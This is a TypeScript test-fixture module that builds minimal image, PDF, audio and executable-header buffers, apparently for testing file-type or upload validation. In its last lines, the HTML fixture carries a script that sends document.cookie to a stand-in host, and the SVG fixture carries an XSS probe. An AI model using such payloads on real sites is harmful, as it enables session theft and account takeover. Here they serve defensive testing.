import { deflateSync } from 'node:zlib';

const u16 = (...values: number[]) => Buffer.concat(values.map((value) => Buffer.from([value >> 8, value & 255])));
const u32 = (value: number) => u16(value >>> 16, value & 0xffff);
const text = (value: string) => Buffer.from(value, 'latin1');

/** A PNG whose header says this size; its pixels are those of one. */
export function png(width: number, height: number): Buffer {
  const chunk = (name: string, data: Buffer) => Buffer.concat([u32(data.length), text(name), data, u32(0)]);
  const header = Buffer.concat([u32(width), u32(height), Buffer.from([8, 0, 0, 0, 0])]);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', deflateSync(Buffer.from([0, 0]))), chunk('IEND', Buffer.alloc(0))]);
}

export const gif = (width: number, height: number): Buffer =>
  Buffer.concat([text('GIF89a'), Buffer.from([width & 255, width >> 8, height & 255, height >> 8, 0, 0, 0, 0x3b])]);

/** A JPEG with an EXIF segment, which may hold any text, before its frame. */
export function jpeg(width: number, height: number, exif = ''): Buffer {
  const note = text(`Exif\0\0${exif}`);
  const frame = Buffer.concat([u16(0xffc0, 17), Buffer.from([8]), u16(height, width), Buffer.from([3, 1, 17, 0, 2, 17, 1, 3, 17, 1])]);
  return Buffer.concat([u16(0xffd8, 0xffe1, note.length + 2), note, frame, u16(0xffd9)]);
}

export function webp(form: 'VP8 ' | 'VP8L' | 'VP8X', width: number, height: number): Buffer {
  const file = Buffer.concat([text('RIFF'), Buffer.from([24, 0, 0, 0]), text(`WEBP${form}`), Buffer.alloc(16)]);
  const sides = [width, height];
  if (form === 'VP8 ') sides.forEach((side, index) => file.writeUInt16LE(side, 26 + 2 * index));
  else if (form === 'VP8L') file.writeUInt32LE(((width - 1) | ((height - 1) << 14)) >>> 0, 21);
  else sides.forEach((side, index) => file.writeUIntLE(side - 1, 24 + 3 * index, 3));
  return file;
}

export const heic = (width: number, height: number): Buffer =>
  Buffer.concat([u32(24), text('ftypheic'), u32(0), text('mif1heic'), u32(20), text('ispe'), u32(0), u32(width), u32(height)]);

export const pdf: Buffer = text('%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');

/** The beginnings of sound files, with some sound behind them. */
export const sounds: Readonly<Record<string, Buffer>> = {
  'audio/mpeg': Buffer.concat([Buffer.from([0xff, 0xfb, 0x90, 0x64]), Buffer.alloc(413)]),
  'audio/mp4': Buffer.concat([u32(20), text('ftypM4A '), u32(0), text('isom')]),
  'audio/wav': Buffer.concat([text('RIFF'), Buffer.from([36, 0, 0, 0]), text('WAVEfmt '), Buffer.alloc(28)]),
  'audio/webm': Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x87, 0x42, 0x82, 0x84, 0x77, 0x65, 0x62, 0x6d]),
  'audio/ogg': Buffer.concat([text('OggS'), Buffer.alloc(24), text('OpusHead')]),
  'audio/flac': Buffer.concat([text('fLaC'), Buffer.alloc(38)]),
  'audio/aac': Buffer.from([0xff, 0xf1, 0x50, 0x80, 0x02, 0x1f, 0xfc, 0x00]),
};

export const html: Buffer = text('<!doctype html><script>fetch("https://evil.example/"+document.cookie)</script>');
export const svg: Buffer = text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>');
export const program: Buffer = Buffer.concat([text('MZ'), Buffer.alloc(60), text('This program cannot be run in DOS mode.')]);
